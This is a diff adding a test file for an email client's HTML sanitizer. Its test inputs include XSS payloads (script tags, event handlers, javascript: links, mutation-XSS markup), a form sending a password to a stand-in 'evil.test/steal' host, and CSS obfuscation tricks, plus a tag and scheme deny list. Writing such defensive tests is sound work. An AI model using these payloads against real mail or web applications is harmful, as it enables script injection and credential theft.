@@ -1,0 +1,228 @@
+// @vitest-environment jsdom
+// The HTML mail sanitizer against hostile markup: nothing that runs, submits, navigates or
+// calls home may survive, and remote content stays out until the user lets it in.
+import { describe, expect, it } from 'vitest';
+import { blockRemoteCss } from '../../renderer/src/mail/css.js';
+import {
+  FRAME_CSP_BLOCKED,
+  FRAME_CSP_REMOTE,
+  FRAME_SANDBOX,
+  frameDocument,
+} from '../../renderer/src/mail/frame-doc.js';
+import { createMailSanitizer } from '../../renderer/src/mail/sanitize.js';
+
+const sanitize = createMailSanitizer(window);
+const blocked = (html: string) => sanitize(html, { allowRemote: false });
+const allowed = (html: string) => sanitize(html, { allowRemote: true });
+
+/** Parses the output again, as the frame would. */
+const parse = (html: string) => new DOMParser().parseFromString(html, 'text/html');
+
+const HOSTILE: [string, string][] = [
+  ['script element', '<p>hi</p><script>alert(1)</script>'],
+  ['script in odd case', '<ScRiPt>alert(1)</sCrIpT>'],
+  ['event handler', '<img src="x" onerror="alert(1)"><body onload="alert(1)">'],
+  ['handler on a link', '<a href="https://a.test" onclick="alert(1)" onmouseover="x()">a</a>'],
+  ['javascript: link', '<a href="javascript:alert(1)">click</a>'],
+  ['javascript: with entities', '<a href="jav&#x09;ascript:alert(1)">click</a>'],
+  [
+    'vbscript and data links',
+    '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html,<script>alert(1)</script>">d</a>',
+  ],
+  ['svg with script', '<svg><script>alert(1)</script><circle r="5"/></svg>'],
+  ['svg onload', '<svg onload="alert(1)"></svg>'],
+  [
+    'svg animate href',
+    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
+  ],
+  ['svg use external', '<svg><use href="https://evil.test/x.svg#a"/></svg>'],
+  ['math xlink', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
+  [
+    'iframe',
+    '<iframe src="https://evil.test"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  ],
+  [
+    'object and embed',
+    '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x">',
+  ],
+  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test">'],
+  ['base href', '<base href="https://evil.test/">'],
+  ['link stylesheet', '<link rel="stylesheet" href="https://evil.test/x.css">'],
+  [
+    'form',
+    '<form action="https://evil.test/steal"><input name="p" type="password"><button formaction="https://evil.test">go</button></form>',
+  ],
+  [
+    'template and noscript',
+    '<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>',
+  ],
+  [
+    'mutation XSS',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  ],
+  [
+    'audio and video',
+    '<video poster="https://evil.test/p.png" src="https://evil.test/v.mp4"></video><audio src="https://evil.test/a.mp3"></audio>',
+  ],
+];
+
+/** What may never be in the sanitized markup, parsed back as a browser would. */
+function dangers(html: string): string[] {
+  const doc = parse(html);
+  const found: string[] = [];
+  for (const el of doc.querySelectorAll('*')) {
+    const tag = el.tagName.toLowerCase();
+    if (
+      /^(script|iframe|frame|object|embed|form|input|button|textarea|select|meta|base|link|svg|math|template|noscript|video|audio)$/.test(
+        tag,
+      )
+    ) {
+      found.push(`<${tag}>`);
+    }
+    for (const attr of el.attributes) {
+      if (/^on/i.test(attr.name)) found.push(`${tag}[${attr.name}]`);
+      if (/^(href|src|action|formaction|xlink:href|poster|background)$/i.test(attr.name)) {
+        if (!/^(https?:|mailto:|cid:|data:image\/)/i.test(attr.value.trim())) {
+          found.push(`${tag}[${attr.name}=${attr.value}]`);
+        }
+      }
+    }
+  }
+  return found;
+}
+
+describe('the HTML mail sanitizer', () => {
+  it.each(HOSTILE)('leaves nothing dangerous of: %s', (_name, html) => {
+    for (const out of [blocked(html).html, allowed(html).html]) {
+      expect(dangers(out)).toEqual([]);
+      expect(out).not.toMatch(/javascript:|vbscript:|alert\(1\)[^<]*<\/script/i);
+    }
+  });
+
+  it('keeps the readable content of a message', () => {
+    const out = blocked(
+      '<h1>Offer</h1><p>Dear <b>Ann</b>, see <a href="https://shop.test/x" target="_blank">here</a>.</p>' +
+        '<table><tr><td>row</td></tr></table><blockquote>quoted</blockquote>',
+    ).html;
+    const doc = parse(out);
+    expect(doc.querySelector('h1')?.textContent).toBe('Offer');
+    expect(doc.querySelector('b')?.textContent).toBe('Ann');
+    expect(doc.querySelector('td')?.textContent).toBe('row');
+    const a = doc.querySelector('a')!;
+    expect(a.getAttribute('href')).toBe('https://shop.test/x');
+    // No target: the reader catches the click and asks before opening anything.
+    expect(a.hasAttribute('target')).toBe(false);
+    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  it('drops relative addresses, which would point into the app itself', () => {
+    const doc = parse(blocked('<a href="/api/message.delete">x</a><img src="/api/x.png">').html);
+    expect(doc.querySelector('a')?.hasAttribute('href')).toBe(false);
+    expect(doc.querySelector('img')?.hasAttribute('src')).toBe(false);
+  });
+
+  it('blocks remote images until they are allowed, and counts them', () => {
+    const html =
+      '<img src="https://cdn.test/logo.png" width="120" height="40" alt="Logo">' +
+      '<img src="http://cdn.test/b.png" srcset="https://cdn.test/b2.png 2x">';
+    const b = blocked(html);
+    expect(b.remoteBlocked).toBe(2);
+    const imgs = [...parse(b.html).querySelectorAll('img')];
+    expect(imgs).toHaveLength(2);
+    for (const img of imgs) {
+      expect(img.hasAttribute('src')).toBe(false);
+      expect(img.hasAttribute('srcset')).toBe(false);
+    }
+    // The blocked image keeps its place: size and alt text.
+    expect(imgs[0]!.getAttribute('alt')).toBe('Logo');
+    expect(imgs[0]!.getAttribute('width')).toBe('120');
+
+    const a = allowed(html);
+    expect(a.remoteBlocked).toBe(0);
+    const srcs = [...parse(a.html).querySelectorAll('img')].map((i) => i.getAttribute('src'));
+    expect(srcs).toEqual(['https://cdn.test/logo.png', 'http://cdn.test/b.png']);
+  });
+
+  it('blocks remote CSS: url() in styles, @import, image-set, background attributes', () => {
+    const html =
+      '<style>@import url("https://evil.test/a.css"); body { background: url(https://evil.test/bg.png) } p { color: red }</style>' +
+      '<div style="background-image: url(\'https://evil.test/i.png\'); color: blue">x</div>' +
+      '<div style="background: image-set(\'https://evil.test/s.png\' 1x)">y</div>' +
+      '<table background="https://evil.test/t.png"><tr><td>z</td></tr></table>';
+    const b = blocked(html);
+    expect(b.html).not.toContain('evil.test');
+    expect(b.remoteBlocked).toBeGreaterThanOrEqual(5);
+    // What is not remote is kept.
+    expect(b.html).toContain('color: red');
+    expect(b.html).toContain('color: blue');
+    expect(allowed(html).html).toContain('https://evil.test/bg.png');
+  });
+
+  it('sees remote CSS hidden behind escapes and comments', () => {
+    for (const css of [
+      'background: \\75 rl(https://evil.test/a.png)',
+      'background: u\\rl(https://evil.test/a.png)',
+      'background: url(/**/https://evil.test/a.png',
+      'background: url(https://evil.test/unterminated',
+    ]) {
+      const r = blockRemoteCss(css);
+      expect(r.css, css).not.toContain('evil.test');
+      expect(r.removed, css).toBeGreaterThan(0);
+    }
+    expect(blockRemoteCss('background: url(data:image/png;base64,AAAA)')).toEqual({
+      css: 'background: url(data:image/png;base64,AAAA)',
+      removed: 0,
+    });
+  });
+
+  it('removes tracking pixels, even when remote images are allowed', () => {
+    const html =
+      '<img src="https://t.test/o.gif?u=1" width="1" height="1">' +
+      '<img src="https://t.test/p.gif" style="width:1px;height:1px">' +
+      '<img src="https://t.test/h.gif" style="display:none">' +
+      '<img src="https://u123.list-manage.com/track/open.php?u=1">' +
+      '<img src="https://x.sendgrid.net/wf/open?upn=abc">' +
+      '<img src="https://cdn.test/photo.jpg" width="300" height="200">';
+    for (const r of [blocked(html), allowed(html)]) {
+      expect(r.trackersRemoved).toBe(5);
+      expect(r.html).not.toContain('t.test');
+      expect(r.html).not.toContain('list-manage');
+      expect(r.html).not.toContain('sendgrid');
+      expect(parse(r.html).querySelectorAll('img')).toHaveLength(1);
+    }
+    // A 1×1 spacer from the message itself calls nobody: it stays.
+    const spacer = blocked(
+      '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="1" height="1">',
+    );
+    expect(spacer.trackersRemoved).toBe(0);
+    expect(spacer.html).toContain('data:image/gif');
+  });
+
+  it("collects the message's own cid: images and keeps data: images only", () => {
+    const r = blocked(
+      '<img src="cid:Logo%40Mail.test"><img src="cid:<part2@x>"><img src="data:image/png;base64,AAAA">' +
+        '<img src="data:text/html;base64,PHNjcmlwdD4=">',
+    );
+    expect(r.cids.sort()).toEqual(['logo@mail.test', 'part2@x']);
+    const srcs = [...parse(r.html).querySelectorAll('img')].map((i) => i.getAttribute('src'));
+    expect(srcs).toEqual([
+      'cid:Logo%40Mail.test',
+      'cid:<part2@x>',
+      'data:image/png;base64,AAAA',
+      null,
+    ]);
+  });
+
+  it('puts the result in a frame document whose CSP allows remote content only when asked', () => {
+    const doc = parse(frameDocument('<p>x</p>', false));
+    const csp = doc.querySelector('meta[http-equiv="Content-Security-Policy"]');
+    expect(csp?.getAttribute('content')).toBe(FRAME_CSP_BLOCKED);
+    expect(FRAME_CSP_BLOCKED).toBe("default-src 'none'; img-src data: cid:");
+    expect(
+      parse(frameDocument('', true)).querySelector('meta[http-equiv]')?.getAttribute('content'),
+    ).toBe(FRAME_CSP_REMOTE);
+    expect(FRAME_CSP_REMOTE).not.toMatch(/script-src|connect-src|font-src|frame-src/);
+    // The sandbox never lets the message run scripts, submit forms, open popups or navigate the app.
+    expect(FRAME_SANDBOX).not.toMatch(/allow-(scripts|forms|popups|top-navigation|modals)/);
+  });
+});
